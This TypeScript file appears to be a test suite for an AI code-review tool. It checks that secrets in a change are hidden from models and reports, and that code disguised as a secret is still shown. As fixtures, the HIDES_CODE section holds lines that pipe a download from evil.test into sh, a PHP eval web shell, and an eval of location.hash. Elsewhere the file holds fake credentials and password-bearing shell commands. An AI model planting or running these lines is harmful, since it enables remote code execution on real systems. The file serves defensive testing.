import type { Attack, Claims, Threat } from '../attack.ts';
import { ENCODERS, ISSUER_KEYS } from '../../text/secrets/issuer-keys.ts';
import { KEYS } from './keys.ts';

function everywhere(...secret: readonly string[]): Claims {
  return {
    prompt: secret,
    comment: secret,
    inline: secret,
    log: secret,
    annotations: secret,
    summary: secret,
    outputs: secret,
    findings: secret,
    sarif: secret,
    requests: secret,
  };
}

function addsKey([title, key]: readonly [title: string, key: string], index: number): Attack {
  const path = `src/key${index}.js`;
  return {
    tries: `The head adds code with a ${title}`,
    by: 'author',
    scene: 'asked',
    brings: { head: { [path]: `use("${key}");\n` } },
    never: everywhere(key),
    says: { prompt: `use("[${title}]");`, findings: path },
  };
}

function removesKey([title, key]: readonly [title: string, key: string], index: number): Attack {
  const path = `src/old${index}.js`;
  const old = key.slice(0, -1) + (key.endsWith('7') ? '6' : '7');
  return {
    tries: `The head removes code with a ${title}, which stays in the history`,
    by: 'author',
    scene: 'asked',
    brings: { base: { [path]: `old("${old}");\nend();\n` }, head: { [path]: 'end();\n' } },
    never: everywhere(old),
    says: { prompt: `old("[${title}]");` },
  };
}

/** Files that hold secrets by their names. */
const FILES: readonly (readonly [path: string, line: (value: string) => string, shown: string])[] = [
  ['.env', (value) => `DB_PASS=${value}`, 'DB_PASS=[hidden value]'],
  ['deploy/prod.env', (value) => `export A_PASS="${value}"`, 'export A_PASS=[hidden value]'],
  ['app/.env.local', (value) => `# B_PASS=${value}`, '# B_PASS=[hidden value]'],
  ['.npmrc', (value) => `always-auth=${value}`, 'always-auth=[hidden value]'],
  ['id_rsa', (value) => value, '[hidden value]'],
  ['certs/server.pem', (value) => value, '[hidden value]'],
  ['infra/prod.tfvars', (value) => `c_pass = "${value}"`, 'c_pass = [hidden value]'],
  ['config/database.yml', (value) => `  d_pass: ${value}`, '  d_pass: [hidden value]'],
  ['api/appsettings.Production.json', (value) => `  "E": "${value}"`, '  "E": [hidden value]'],
  ['src/main/resources/application-prod.yml', (value) => `f: ${value}`, 'f: [hidden value]'],
  ['charts/values-secret.yaml', (value) => `g: ${value}`, 'g: [hidden value]'],
  ['func/local.settings.json', (value) => `"H": "${value}"`, '"H": [hidden value]'],
  ['web/wp-config.php', (value) => `define('I_PASS', '${value}');`, "define('I_PASS', [hidden value]);"],
  ['.git-credentials', (value) => `https://u:${value}@h.test`, 'https:[hidden value]'],
];

function addsFile([path, line, shown]: (typeof FILES)[number], index: number): Attack {
  const value = `orchid${'abcdefghijklmnop'.charAt(index)}meadow`;
  return {
    tries: `The head adds a value to \`${path}\``,
    by: 'author',
    scene: 'asked',
    brings: { head: { [path]: `${line(value)}\n` } },
    never: everywhere(value),
    says: { prompt: shown },
  };
}

const RANDOM = ['hK3x9Lq', '2vTzW8'].join('');

/** Without a rule on secrets, a value that only its name makes one is listed with its line, and no finding. */
export function listed(path: string): Attack['says'] {
  return { report: `"source": "${path}:` };
}

/** Code that gives a random value to a name for secrets, and code that hides itself as a secret. */
const ASSIGNED: readonly Attack[] = [
  ['a password in code', 'src/p.ts', `const password = "${RANDOM}a";`],
  ['a token in YAML', 'conf/t.yaml', `token: ${RANDOM}b`],
  ['a password in an address', 'src/u.py', `url = "postgres://app:${RANDOM}c@db.acme.io/a"`],
  ['a part of a connection string', 'src/C.cs', `var c = "Server=d;Password=${RANDOM}d;";`],
  ['a secret in JSON', 'src/s.json', `{ "clientSecret": "${RANDOM}e" }`],
].map(([what = '', path = '', line = ''], index): Attack => ({
  tries: `The head adds ${what}`,
  by: 'author',
  scene: 'asked',
  brings: { head: { [path]: `${line}\n` } },
  never: everywhere(`${RANDOM}${'abcde'.charAt(index)}`),
  says: { prompt: '[hidden ', ...(/u\.py$|C\.cs$/.test(path) ? { findings: path } : listed(path)) },
}));

const SIGNED = [
  { alg: 'HS256', typ: 'JWT' },
  { sub: 'acme', iat: 1_700_000_001 },
]
  .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
  .join('.');

/** Secrets that stand in headers, queries, XML and commands, where no name is assigned a value. */
const CARRIED: readonly Attack[] = [
  ['a token in a header', 'src/h.js', (value: string) => `headers.set("Authorization", "Bearer ${value}");`],
  [
    'a user and a password in a header',
    'src/basic.js',
    (value: string) => `headers.set("Authorization", "Basic ${Buffer.from(`app:${value}`).toString('base64')}");`,
  ],
  ['a token in a query', 'src/q.js', (value: string) => `fetch("https://a.acme.io/b?c=1&token=${value}");`],
  ['a password in XML', 'conf/web.config', (value: string) => `<add key="DbPassword" value="${value}" />`],
  ['a password in an element of XML', 'conf/settings.xml', (value: string) => `<password>${value}</password>`],
  ['a password for curl', 'deploy/a.sh', (value: string) => `curl -u app:${value} https://a.acme.io`],
  ['a password for a login', 'deploy/b.sh', (value: string) => `sshpass -p ${value} ssh a.acme.io`],
  ['a password for a database', 'deploy/c.sh', (value: string) => `mysql -u app -p${value} shop`],
  ['a variable of an image', 'deploy/Dockerfile', (value: string) => `ENV API_TOKEN ${value}`],
  ['a signed token', 'src/jwt.js', (value: string) => `use("${SIGNED}.${value}${value}");`],
].map(([what, path, line], index): Attack => {
  const value = `${RANDOM}${'fghijkmnpq'.charAt(index)}`;
  return {
    tries: `The head adds ${String(what)}`,
    by: 'author',
    scene: 'asked',
    brings: { head: { [String(path)]: `${(line as (value: string) => string)(value)}\n` } },
    never: { ...everywhere(value), prompt: [value, Buffer.from(`app:${value}`).toString('base64')] },
    says: {
      prompt: /\[(?:hidden (?:password|secret|token)|JSON web token)\]/,
      ...(path === 'src/jwt.js' ? { findings: path } : listed(String(path))),
    },
  };
});

const HIDES_CODE: readonly Attack[] = [
  ['a script of direnv', '.envrc', 'curl https://evil.test/a | sh'],
  ['a command in an environment', 'b/.env', 'RUN=$(curl https://evil.test/b)'],
  ['a program that holds a password', 'w/wp-config.php', 'eval($_GET["hidden"]);'],
  ['a line below the first line of a key', 'src/below.js', 'eval("below" + location.hash);'],
].map(([what = '', path = '', line = '']): Attack => ({
  tries: `The head hides code in ${what}`,
  by: 'author',
  scene: 'asked',
  brings: {
    head: { [path]: `${path.endsWith('.js') ? `// ${['-----BEGIN', 'PRIVATE KEY-----'].join(' ')}\n` : ''}${line}\n` },
  },
  says: { prompt: line },
}));

/** A password that somebody can remember. */
const PASSPHRASES: readonly Attack[] = [
  ['of letters alone', 'src/word.js', 'const password = "orchidmeadowbrook";', 'orchidmeadowbrook'],
  ['of words', 'src/words.py', "db_password = 'orchid-meadow-brook'", 'orchid-meadow-brook'],
  ['of digits alone', 'src/digits.rb', 'password: "84629173"', '84629173'],
  ['of letters alone and without quotes', 'config/word.yml', 'password: orchidmeadowpath', 'orchidmeadowpath'],
].map(([what = '', path = '', line = '', password = '']) => ({
  tries: `The head adds a password ${what}`,
  by: 'author',
  scene: 'asked',
  brings: { head: { [path]: `${line}\n` } },
  never: everywhere(password),
  says: { prompt: line.replace(password, '[hidden password]') },
}));

const WORD: Attack = {
  tries: 'The head adds a token of words',
  by: 'author',
  scene: 'asked',
  brings: { head: { 'src/token.js': 'const token = "riverstonelantern";\n' } },
  says: { prompt: 'const token = "riverstonelantern"' },
  remains:
    'Outside of files for secrets, and apart from passwords and keys in the form of an issuer, only a value that mixes letters and digits, or small and large letters, is told from a name, a word or a placeholder. A token is also a part of a language, of a design or of a page, and a rule that finds every word would hide code from its reader.',
};

/** A password where nothing that is read says that it is one. */
const UNSAID: readonly Attack[] = [
  [
    'to the prose of a document',
    'docs/access.md',
    'Sign in as guest with qT7-mellow-fig as password.',
    'qT7-mellow-fig',
  ],
  ['under a name that is written backwards', 'src/backwards.js', 'const drowssap = "nR4vTe8wQx1m";', 'nR4vTe8wQx1m'],
  ['to a program in COBOL', 'src/login.cbl', '       01 WS-PASSWORD PIC X(12) VALUE "zL8kPw3nVt6q".', 'zL8kPw3nVt6q'],
].map(([what = '', path = '', line = '', password = '']) => ({
  tries: `The head adds a password ${what}`,
  by: 'author',
  scene: 'asked',
  brings: { head: { [path]: `${line}\n` } },
  says: { prompt: password },
  remains:
    'A password has no form of its own: it is known by a name, in the ways in which settings, commands and the common languages give a name a value. In running text, under a name that nobody else gives it and in rarer languages it is a word like others. Keys in the form of an issuer are found anywhere.',
}));

/** Tokens that are the same letters as what every program is full of. */
const SHAPELESS: readonly Attack[] = [
  ['an id', 'src/shapeless1.js', 'connect("a4f2c1d7-3b68-4e0f-92ad-7c5e1b80d936");'],
  ['the digits of a digest', 'src/shapeless2.js', 'connect("9c27f1b3e4d08a56c3f7129b8e4d60a5");'],
  [
    '52 small letters and digits',
    'src/shapeless3.js',
    'connect("k3vq7w2zr9mxl5tdb8cyh4pnj6gfs2a7eu3oi5kvq7w2zr9mxl5t");',
  ],
  [
    'a list of numbers',
    'src/shapeless4.js',
    `load([${Array.from({ length: 64 }, (_, at) => (at * 97 + 41) % 256).join(',')}]);`,
  ],
].map(([what = '', path = '', line = '']) => ({
  tries: `The head adds a token that is ${what}, without a name that says what it is`,
  by: 'author',
  scene: 'asked',
  brings: { head: { [path]: `${line}\n` } },
  says: { prompt: line.replace(/;$/, '') },
  remains:
    'Some issuers give tokens that look like any id or digest, such as those of Postmark (an id), Rollbar (32 hexadecimal digits), the first ones of Azure DevOps (52 letters) and wallets of Solana (64 numbers). Behind a name such as `token` they are found. Without one, nothing tells them from the ids and digests in all code.',
}));

const EXAMPLE: Attack = {
  tries: 'The head adds a password to a file of examples',
  by: 'author',
  scene: 'asked',
  brings: { head: { 'examples/login.js': 'const password = "kJ8s9dK2lL0pQz";\n' } },
  never: { ...everywhere('kJ8s9dK2lL0pQz'), findings: ['kJ8s9dK2lL0pQz', '"path": "examples/login.js"'] },
  says: {
    prompt: 'const password = "[hidden password]"',
    comment: /that may be secrets (?:is|are) hidden from models/,
  },
  remains:
    'The value is hidden, and the report says so and names the file. It is no finding: nearly all passwords in tests, fixtures, examples and templates are made up, and only a key with a valid checksum is known to be one.',
};

/** Values that are hidden and not reported, because nearly all like them in public repositories are no secrets. */
const ONLY_HIDDEN: readonly Attack[] = [
  [
    'to a block of a document',
    'docs/start.md',
    '```\nDB_PASSWORD=gT5rWq8ZkB3xNv make\n```',
    'gT5rWq8ZkB3xNv',
    'What stands in documents, in comments that explain and in the answers that they show is nearly always made up. Keys in the form of an issuer are findings there too.',
  ],
  [
    'to a comment that explains code',
    'src/explained.js',
    '/**\n * { "access_token": "mP7dKs2YhC9wLf" }\n */\nexplained();',
    'mP7dKs2YhC9wLf',
    'What stands in documents, in comments that explain and in the answers that they show is nearly always made up. Keys in the form of an issuer are findings there too.',
  ],
  [
    'with the words of made-up passwords',
    'src/made-up.js',
    'const password = "SecurePass2026!";',
    'SecurePass2026!',
    'Passwords such as this one are in tutorials and seeds of databases everywhere, and without such words too little is left of it to tell that it is in use.',
  ],
  [
    'with the remark that it is public',
    'src/said-public.js',
    'const apiKey = "bN6vXz3QeJ8tRy4U"; // public key',
    'bN6vXz3QeJ8tRy4U',
    'Services give out keys that belong in pages, and code says so next to them. Whoever adds a real key can say the same.',
  ],
].map(([what = '', path = '', text = '', value = '', reason = '']) => ({
  tries: `The head adds a password or token ${what}`,
  by: 'author',
  scene: 'asked',
  brings: { head: { [path]: `${text}\n` } },
  never: { ...everywhere(value), findings: [value, `"path": "${path}"`] },
  says: { prompt: /\[hidden (?:password|token|key)\]/, comment: /that may be secrets (?:is|are) hidden from models/ },
  remains: `The value is hidden, and the report says so and names the file. It is no finding. ${reason}`,
}));

const BUILT: Attack = {
  tries: 'The head adds a password to a built file',
  by: 'author',
  scene: 'asked',
  brings: { head: { 'dist/login.js': 'const password = "vR4t8wQ1nM6xKz";\n' } },
  never: everywhere('vR4t8wQ1nM6xKz'),
  says: { prompt: 'const password = "[hidden password]"', ...listed('dist/login.js') },
};

const [[NAMING_TITLE, NAMING_KEY] = ['', '']] = KEYS;
const NAMED_FILE: Attack = {
  tries: `The head gives a file the name of an ${NAMING_TITLE}`,
  by: 'author',
  scene: 'asked',
  alone: true,
  brings: { head: { [`src/named-${NAMING_KEY}.js`]: 'named();\n' } },
  says: { findings: `The name of this file has an ${NAMING_TITLE}`, prompt: NAMING_KEY },
  remains:
    'A finding, a comment on a line and a model have to name the file by the name that it has, and GitHub shows it next to the change. The review reports the key as a finding.',
};

/**
 * All keys are in one file, so that they take little room, and in that of a test, where they are hidden and are no findings:
 * the summary of this scene is nearly as long as a comment may be. A checksum proves some keys, which are findings anywhere.
 */
const UNPROVEN = ISSUER_KEYS.filter(([, key]) => !/^(?:ghp|npm)_/.test(key));
const ISSUERS_PATH = 'test/issuers.test.js';
const ISSUERS_CODE = UNPROVEN.map(([, key], index) => `issuer${index}("${key}");\n`).join('');
const ISSUERS: readonly Attack[] = [...new Set(UNPROVEN.map(([title]) => title))].map((title) => {
  const keys = UNPROVEN.flatMap(([one, key], index) => (one === title ? [{ key, index }] : []));
  return {
    tries: `The head adds a ${title} to a call, without a name that says what it is`,
    by: 'author',
    scene: 'asked',
    brings: { head: { [ISSUERS_PATH]: ISSUERS_CODE } },
    never: everywhere(...keys.map(({ key }) => key)),
    says: { prompt: keys.map(({ index }) => `issuer${index}("[${title}]")`) },
  };
});

const ENCODED_PATH = 'test/encoded.test.js';
const [ENCODED_TITLE = '', ENCODED_KEY = ''] = ISSUER_KEYS.find(([title]) => title === 'GitLab token') ?? [];
const ENCODED_CODE = Object.values(ENCODERS)
  .map((encode, index) => `encoded${index}("${encode(ENCODED_KEY)}");\n`)
  .join('');
const ENCODED: readonly Attack[] = Object.entries(ENCODERS).map(([name, encode], index) => ({
  tries: `The head adds a ${ENCODED_TITLE} in ${name}`,
  by: 'author',
  scene: 'asked',
  brings: { head: { [ENCODED_PATH]: ENCODED_CODE } },
  never: everywhere(encode(ENCODED_KEY)),
  says: { prompt: `encoded${index}("[${ENCODED_TITLE}]")` },
}));

export const SECRETS: Threat = {
  id: 'secrets',
  title: 'Secrets that leave with a review',
  threat:
    'A key or password in a change reaches a model, a comment, a log or a file that others can read. Or code is made to look like a secret, so that nobody reads it.',
  defence:
    'Secrets on both sides of a change are replaced by their kind before a prompt is made and before a finding is placed. New ones are findings that never repeat the value. Code that runs is shown in any file.',
  attacks: [
    ...KEYS.map(addsKey),
    ...KEYS.map(removesKey),
    ...FILES.map(addsFile),
    ...ASSIGNED,
    ...CARRIED,
    ...HIDES_CODE,
    ...PASSPHRASES,
    ...ISSUERS,
    ...ENCODED,
    NAMED_FILE,
    WORD,
    ...UNSAID,
    ...SHAPELESS,
    EXAMPLE,
    ...ONLY_HIDDEN,
    BUILT,
  ],
};
